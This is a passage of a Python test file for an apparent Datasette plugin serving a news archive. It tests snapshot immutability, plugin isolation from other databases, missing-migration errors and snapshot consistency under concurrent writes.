                "/-/article?url=" + SEED_URL, "/-/charts", "/archive/search.json?q=metropole", allow_sql=False)
    assert [r.status_code for r in off] == [403, 200, 200, 200, 200, 200]


def test_snapshot_is_served_immutably(db, tmp_path):
    out = snapshot(db, tmp_path / "public.db")
    databases, search_page, table_search, queries = fetch(
        out, "/-/databases.json", "/-/search?q=metropole", "/public/articles.json?_search=metropole&_shape=array",
        "/public.json", immutable=True)
    assert [(d["name"], d["is_mutable"]) for d in databases.json()] == [("public", False)]
    assert "<mark>métropole</mark>" in search_page.text
    assert sorted(r["url"] for r in table_search.json()) == [COPY_URL, SEED_URL]
    assert {q["name"] for q in queries.json()["queries"]} == set(QUERIES)


# --- databases that are not archives ----------------------------------------------------------------------------------
def test_other_databases_get_nothing_from_the_plugin(db, other):
    both = [db, other]
    meta, queries, table, csv_body, fold_sql, search_there = fetch(
        both, "/-/metadata.json", "/other.json", "/other/articles.json", "/other/articles.csv",
        "/other.json?sql=select+fold('É')", "/-/search?q=metropole&db=other")
    assert set(meta.json()["databases"]) == {"archive"}
    assert queries.json()["queries"] == [] and not queries.json().get("description")
    assert {t["name"]: t["hidden"] for t in queries.json()["tables"]} == {"articles": False}
    assert table.json()["rows"] and not table.json().get("description")
    assert csv_body.text.splitlines()[1:] == [f'https://example.org/1,"{FORMULA.replace(chr(34), chr(34) * 2)}"',
                                               "https://example.org/2,métropole"]  # not prefixed
    assert fold_sql.status_code == 400 and "no such function: fold" in fold_sql.json()["error"]
    assert search_there.status_code == 404
    assert rows(both, "/archive.json?sql=select+fold('É')+AS+f&_shape=array") == [{"f": "e"}]


def test_no_archive_served_means_no_plugin_at_all(other):
    home, search_page, menu, meta, queries = fetch(
        other, "/", "/-/search?q=metropole", "/-/charts", "/-/metadata.json", "/other.json")
    assert "This archive holds" not in home.text and "na-nav" not in home.text and "Search the archive" not in home.text
    assert "<h2" in home.text and "other" in home.text  # Datasette's own home page
    assert search_page.status_code == 404 and "No newsarchive archive is served here" in search_page.text
    assert menu.status_code == 404
    assert meta.json() == {}
    assert queries.json()["queries"] == []


def test_an_archive_lacking_migrations_says_so(tmp_path):
    path = tmp_path / "old.db"
    archive = Archive(path)
    migrations.apply(archive.db, stop_before="m006_one_search_index")
    archive.close()
    search_page, queries, home = fetch(path, "/-/search?q=metropole", "/old.json", "/")
    assert search_page.status_code == 503
    assert "The archive old lacks the schema migrations m006_one_search_index" in unescape(search_page.text)
    assert {q["name"] for q in queries.json()["queries"]} == set(QUERIES)  # still an archive
    assert home.status_code == 200 and "This archive holds" not in home.text


def test_an_archive_becomes_one_while_served(tmp_path):
    """A database file the plugin saw as no archive is asked again once it changes."""
    path = tmp_path / "late.db"
    sqlite3.connect(path).execute("CREATE TABLE t (x)").connection.close()

    async def run():
        ds = datasette(path)
        before = (await ds.client.get("/late.json")).json()["queries"]
        Archive.open(path).close()
        after = (await ds.client.get("/late.json")).json()["queries"]
        return before, after

    import asyncio

    before, after = asyncio.run(run())
    assert before == [] and {q["name"] for q in after} == set(QUERIES)


# --- snapshots ------------------------------------------------------------------------------------------------------
def test_snapshot_refuses_to_overwrite(db, tmp_path):
    out = tmp_path / "snap.db"
    out.write_text("not mine")
    with pytest.raises(SnapshotError, match=r"^.*snap\.db exists: choose another file, or overwrite it with --overwrite$"):
        snapshot(db, out)
    assert out.read_text() == "not mine"
    snapshot(db, out, overwrite=True)
    assert facts(out) == facts(db)
    with pytest.raises(SnapshotError, match="is the archive itself"):
        snapshot(db, db, overwrite=True)
    with pytest.raises(SnapshotError, match="no archive at"):
        snapshot(tmp_path / "none.db", tmp_path / "x.db")


def test_snapshot_is_consistent_while_another_connection_writes(db, tmp_path):
    live = snapshot(db, tmp_path / "live.db")
    conn = sqlite3.connect(live, isolation_level=None)
    conn.execute("PRAGMA journal_mode = WAL")
    conn.execute("CREATE TABLE pairs_a (n INTEGER)")
    conn.execute("CREATE TABLE pairs_b (n INTEGER)")
    conn.close()
    stop = threading.Event()
    written = []

    def writer():  # each transaction adds one row to both tables: a consistent copy has equal counts
        w = sqlite3.connect(live, isolation_level=None, timeout=30)
        n = 0
        while not stop.is_set():
            w.execute("BEGIN IMMEDIATE")
            w.execute("INSERT INTO pairs_a VALUES (?)", [n])
            w.execute("INSERT INTO pairs_b VALUES (?)", [n])
            w.execute("COMMIT")
            n += 1
        w.close()
        written.append(n)

    thread = threading.Thread(target=writer)
    thread.start()
    try:
        copies = [snapshot(live, tmp_path / f"copy{i}.db") for i in range(3)]
    finally:
        stop.set()
        thread.join()
    holder = sqlite3.connect(live, isolation_level=None, timeout=30)
    holder.execute("BEGIN IMMEDIATE")  # a transaction not committed yet is not in the copy
    holder.execute("INSERT INTO crawls (started, source) VALUES ('2030-01-01T00:00:00Z', 'uncommitted')")
    try:
        copies.append(snapshot(live, tmp_path / "copy-during-write.db"))
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert written[0] > 0
    counts = []
    for copy in copies:
        assert not (tmp_path / f"{copy.name}-wal").exists()
        c = sqlite3.connect(copy)
        assert c.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
        assert c.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        a, b = (c.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("pairs_a", "pairs_b"))
        assert a == b
        counts.append(a)
        assert c.execute("SELECT count(*) FROM crawls WHERE source = 'uncommitted'").fetchone()[0] == 0
        assert c.execute("SELECT count(*) FROM articles").fetchone()[0] == facts(db)["articles"]
        c.close()
    assert counts[-1] == written[0]  # the last copy has every committed pair
    assert not list(tmp_path.glob(".*.tmp"))
